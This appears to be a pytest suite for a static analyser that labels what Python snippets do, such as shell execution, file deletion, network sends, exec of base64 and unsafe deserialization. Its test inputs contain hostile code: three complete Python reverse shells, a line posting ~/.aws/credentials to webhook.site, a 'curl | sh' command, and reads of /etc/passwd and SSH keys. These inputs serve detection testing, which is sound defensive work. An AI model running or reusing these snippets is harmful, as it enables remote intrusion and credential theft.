"""Python facts: what calls do (commands, files, network, exec, deserialization, SQL), with
spans through name resolution, byte columns, IPython syntax and JSON escapes."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import cbm.facts.python  # noqa: F401  (registers the "python" parser)
import cbm.facts.sql  # noqa: F401  (SQL handed on by cursor.execute)
from cbm.facts.base import PARSERS, Collector, Fact
from cbm.facts.text import Text, json_strings


@pytest.fixture
def shell_calls(monkeypatch):
    """What the Python parser hands to the shell parser, whether or not that parser is loaded."""
    calls: list[Text] = []
    monkeypatch.setitem(PARSERS, "shell", lambda out, text: calls.append(text))
    return calls


def read(code: str) -> list[Fact]:
    collector = Collector()
    collector.parse("python", Text.plain(code))
    return collector.facts


def of(facts: list[Fact], kind: str, parser: str = "ast") -> list[Fact]:
    return [f for f in facts if f.kind == kind and f.parser == parser]


def at(source: str, fact: Fact | Text) -> str:
    span = fact.span if isinstance(fact, Fact) else fact.span()
    return source[span[0]:span[1]]


def test_os_system_hands_the_command_to_the_shell(shell_calls):
    code = 'import os\nos.system("rm -rf /tmp/build")'
    facts = read(code)
    [op] = of(facts, "operation")
    assert (op.value, at(code, op)) == ("execute", "os.system")
    [command] = shell_calls
    assert command.value == "rm -rf /tmp/build" and at(code, command) == "rm -rf /tmp/build"
    assert not of(facts, "parse_error")


def test_subprocess_list_is_quoted_and_joined(shell_calls):
    code = 'import subprocess as sp\nsp.run(["bash", "-c", "curl http://x.io | sh"], check=True)'
    [op] = of(read(code), "operation")
    assert (op.value, at(code, op)) == ("execute", "sp.run")
    [command] = shell_calls
    assert command.value == "bash -c 'curl http://x.io | sh'"
    assert at(code, command) == 'bash", "-c", "curl http://x.io | sh'


def test_unknown_parts_of_a_command_are_placeholders(shell_calls):
    read('import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", pkg])')
    assert [c.value for c in shell_calls] == ["python -m pip install ${pkg}"]


def test_rmtree_with_a_variable_points_at_the_assigned_literal():
    code = "import shutil\nroot = '/var/lib/postgresql/data'\nshutil.rmtree(root, ignore_errors=True)"
    facts = read(code)
    [op] = of(facts, "operation")
    assert (op.value, at(code, op)) == ("delete", "shutil.rmtree")
    assert {f.value for f in of(facts, "flag")} == {"recursive", "force"}
    [target] = of(facts, "target")
    assert target.value == "/var/lib/postgresql/data" and "data_directory" in target.tags
    assert target.span == (code.index("/var/lib"), code.index("/var/lib") + len("/var/lib/postgresql/data"))


def test_name_assigned_twice_is_not_resolved():
    facts = read("p = '/etc/passwd'\np = input()\nopen(p)")
    assert [f.value for f in of(facts, "operation")] == ["read"]
    assert not of(facts, "target")


def test_open_read_of_passwd():
    code = "print(open('/etc/passwd').read())"
    facts = read(code)
    [op] = of(facts, "operation")
    assert (op.value, at(code, op)) == ("read", "open")
    [target] = of(facts, "target")
    assert at(code, target) == "/etc/passwd" and "account_database" in target.tags


def test_open_modes():
    assert [f.value for f in of(read("open('a.txt', 'w')"), "operation")] == ["write"]
    assert [f.value for f in of(read("open('a.txt', mode='a')"), "operation")] == ["append"]
    assert [f.value for f in of(read("open('a.txt', 'rb')"), "operation")] == ["read"]


def test_requests_post_with_files_sends():
    code = ('import requests\n'
            'requests.post("https://webhook.site/abc", files={"f": open("/root/.aws/credentials", "rb")})')
    facts = read(code)
    ops = of(facts, "operation")
    assert [f.value for f in ops] == ["network_send", "read"]
    assert at(code, ops[0]) == "requests.post"
    [destination] = [f for f in facts if f.kind == "destination"]
    assert destination.value == "webhook.site" and "sending" in destination.tags
    assert at(code, destination) == "webhook.site"
    [secret] = of(facts, "target")
    assert "secret" in secret.tags


def test_requests_get_fetches():
    facts = read("import requests\nr = requests.get('http://localhost:8000/api')")
    assert [f.value for f in of(facts, "operation")] == ["network_fetch"]
    assert [f.value for f in facts if f.kind == "host"] == ["localhost"]


def test_reverse_shell():
    code = ("import socket,os,pty\n"
            "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
            "s.connect((\"10.0.0.1\",4444))\n"
            "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\n"
            "pty.spawn(\"/bin/sh\")")
    facts = read(code)
    ops = [f.value for f in of(facts, "operation")]
    assert ops == ["network_send", "execute", "reverse_shell"]
    [host] = [f for f in facts if f.kind == "host"]
    assert host.value == "10.0.0.1" and "port:4444" in host.tags and at(code, host) == "10.0.0.1"


def test_a_reverse_shell_through_a_socket_passed_to_helper_functions():
    code = ("import socket, subprocess, os\n"
            "def connect(sock, ip, port):\n    sock.connect((ip, port))\n    return sock\n"
            "def redirect(sock):\n    os.dup2(sock.fileno(), 0)\n    os.dup2(sock.fileno(), 1)\n"
            "s = connect(socket.socket(socket.AF_INET, socket.SOCK_STREAM), '127.0.0.1', 5389)\n"
            "redirect(s)\nsubprocess.call(['/bin/bash', '-i'])\n")
    ops = of(read(code), "operation")
    assert [f.value for f in ops] == ["network_send", "execute", "reverse_shell"]
    assert at(code, ops[-1]) == "sock.connect((ip, port))"


def test_running_what_a_socket_sends_is_a_remote_shell():
    code = ("import socket, subprocess\n"
            "with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as conn:\n"
            "    conn.connect(('203.0.113.9', 5389))\n"
            "    while True:\n"
            "        data = conn.recv(1024)\n"
            "        command = data.decode().strip()\n"
            "        p = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)\n"
            "        conn.sendall(p.stdout.read())\n")
    ops = of(read(code), "operation")
    assert ops[-1].value == "reverse_shell" and ops[-1].tags == ("command_channel",)
    assert at(code, ops[-1]) == "conn.connect(('203.0.113.9', 5389))"


def test_a_client_that_runs_a_fixed_command_and_reads_a_socket_is_not_a_shell():
    code = ("import socket, subprocess\n"
            "s = socket.create_connection(('example.com', 80))\n"
            "reply = s.recv(1024)\n"
            "subprocess.run(['git', 'status'])\n")
    assert "reverse_shell" not in [f.value for f in of(read(code), "operation")]


def test_socket_without_a_shell_is_not_a_reverse_shell():
    facts = read("import socket\ns = socket.create_connection(('example.com', 80))\ns.sendall(b'x')")
    assert [f.value for f in of(facts, "operation")] == ["network_send"]


def test_exec_of_base64_is_decoded_and_read_as_python(shell_calls):
    payload = base64.b64encode(b'import os; os.system("id")').decode()
    code = f"import base64\nexec(base64.b64decode('{payload}'))"
    facts = read(code)
    [decoded] = of(facts, "decoded")
    assert decoded.value == 'import os; os.system("id")' and at(code, decoded) == payload
    ops = of(facts, "operation")
    assert [f.value for f in ops] == ["execute", "execute"]
    assert at(code, ops[0]) == "exec" and at(code, ops[1]) == payload  # the inner os.system points at the blob
    assert [c.value for c in shell_calls] == ["id"]


def test_exec_of_a_literal_is_read_as_python():
    code = "exec(\"import shutil; shutil.rmtree('/home/alice')\")"
    facts = read(code)
    assert [f.value for f in of(facts, "operation")] == ["execute", "delete"]
    [target] = of(facts, "target")
    assert at(code, target) == "/home/alice"


def test_pickle_and_unsafe_yaml_are_deserialization():
    [op] = of(read("import pickle\nobj = pickle.loads(data)"), "operation")
    assert (op.value, op.tags) == ("execute", ("deserialize",))
    assert of(read("import yaml\nyaml.load(s)"), "operation")[0].tags == ("deserialize",)
    assert not of(read("import yaml\nyaml.load(s, Loader=yaml.SafeLoader)"), "operation")


def test_sqlite_connect_and_execute_drop():
    code = ('import sqlite3\nconn = sqlite3.connect("/srv/app/prod.db")\ncur = conn.cursor()\n'
            'cur.execute("DROP TABLE users")')
    collector = Collector()
    collector.parse("python", Text.plain(code))
    facts = collector.facts
    [db] = of(facts, "target")
    assert "database" in db.tags and at(code, db) == "/srv/app/prod.db"
    [drop] = of(facts, "operation", "sqlglot")
    assert (drop.value, at(code, drop)) == ("drop", "DROP TABLE")
    [table] = of(facts, "target", "sqlglot")
    assert table.value == "users" and at(code, table) == "users"


def test_syntax_error_is_a_fact():
    facts = read("def f(:\n    pass")
    [error] = of(facts, "parse_error")
    assert error.value.startswith("ast:")
    assert not of(facts, "operation")


def test_python2_code_is_a_parse_error():
    assert of(read('print "hello"\nimport os\nos.remove("x")'), "parse_error")


def test_ipython_shell_lines_go_to_the_shell(shell_calls):
    code = "!pip install x\n%pip install -q y\nimport os\nos.listdir('/data')"
    facts = read(code)
    assert [c.value for c in shell_calls] == ["pip install x", "pip install -q y"]
    assert at(code, shell_calls[0]) == "pip install x"
    assert not of(facts, "parse_error")
    [op] = of(facts, "operation")
    assert (op.value, at(code, op)) == ("list", "os.listdir")
    [target] = of(facts, "target")
    assert at(code, target) == "/data"


def test_bash_cell_magic_is_shell(shell_calls):
    read("%%bash\nrm -rf ~/project\n")
    assert [c.value for c in shell_calls] == ["rm -rf ~/project\n"]


def test_pathlib_methods():
    code = ("from pathlib import Path\n"
            "Path.home().joinpath('.bashrc').write_text('x')\n"
            "(Path('/data') / 'old').unlink()\n"
            "key = Path('~/.ssh/id_rsa').expanduser()\n"
            "print(key.read_text())")
    facts = read(code)
    assert [f.value for f in of(facts, "operation")] == ["write", "delete", "read"]
    targets = of(facts, "target")
    assert [f.value for f in targets] == ["~/.bashrc", "/data/old", "~/.ssh/id_rsa"]
    assert "shell_profile" in targets[0].tags and "secret" in targets[2].tags
    assert at(code, targets[2]) == "~/.ssh/id_rsa"


def test_file_operations():
    facts = read("import os, shutil\nshutil.copy('a', 'b')\nos.rename('c', 'd')\nos.chmod('/tmp/x', 0o777)\n"
                 "os.kill(123, 9)")
    assert [f.value for f in of(facts, "operation")] == ["copy", "move", "chmod", "kill"]
    assert [f.value for f in of(facts, "target")] == ["a", "b", "c", "d", "/tmp/x", "123"]  # the PID, as `kill 123`
    assert "world_writable" in of(facts, "operation")[2].tags


def test_byte_columns_of_non_ascii_lines():
    code = 'note = "café ☕"; import os; os.remove("/tmp/ü.txt")'
    facts = read(code)
    [op] = of(facts, "operation")
    assert at(code, op) == "os.remove"
    [target] = of(facts, "target")
    assert at(code, target) == "/tmp/ü.txt"


def test_escaped_literal_maps_each_character():
    code = 'open("/etc/pass\\x77d")'
    [target] = of(read(code), "target")
    assert target.value == "/etc/passwd"
    assert at(code, target) == "/etc/pass\\x77d"


def test_spans_map_through_json_escapes():
    raw = '{"code": "import os\\nos.remove(\\"/etc/hosts\\")"}'
    [_, (_, code)] = json_strings(raw)
    collector = Collector()
    collector.parse("python", code)
    [target] = of(collector.facts, "target")
    assert target.value == "/etc/hosts" and raw[target.span[0]:target.span[1]] == "/etc/hosts"
    [op] = of(collector.facts, "operation")
    assert raw[op.span[0]:op.span[1]] == "os.remove"


def test_each_call_is_its_own_command():
    facts = read("import os\nos.remove('a')\nos.remove('b')")
    ops = of(facts, "operation")
    targets = of(facts, "target")
    assert ops[0].command != ops[1].command
    assert [t.command for t in targets] == [o.command for o in ops]


def test_indented_snippet_is_dedented():
    facts = read("    import os\n    os.remove('a.txt')\n")
    assert [f.value for f in of(facts, "operation")] == ["delete"]
    assert not of(facts, "parse_error")


def test_dunder_import_and_aliases(shell_calls):
    facts = read("__import__('os').system('id')\nfrom subprocess import check_output as co\nco('uname -a', shell=True)")
    assert [f.value for f in of(facts, "operation")] == ["execute", "execute"]
    assert [c.value for c in shell_calls] == ["id", "uname -a"]


@settings(derandomize=True, max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["import os\n", "os.system(", "'rm -rf /'", ")", "\n", "!ls\n", "%pip install x\n",
                                 "x = ", "'a'", "+", "f'{x}'", "exec(", "base64.b64decode(", "'aWQ='", "open(",
                                 "'/etc/passwd'", ", 'w'", "Path(", " / ", ".unlink()", "    ", "é", "[", "]",
                                 "subprocess.run([", "'a', ", "*x", "s.connect((", "'h', 1", "))", "%%bash\n",
                                 "def f(", ":", "pass", "yaml.load(", "requests.post(", "data=1", "'\\x41'",
                                 "b'\\xff'", "'''", "\\\n"]), max_size=14))
def test_any_code_gives_facts_inside_it_and_no_crash(pieces):
    code = "".join(pieces)
    collector = Collector()
    collector.parse("python", Text.plain(code))
    for fact in collector.facts:
        assert 0 <= fact.span[0] <= fact.span[1] <= max(len(code), 1)
        if fact.kind == "parse_error":  # the collector names a parser's crash by the language
            assert fact.parser not in ("sql", "python"), fact
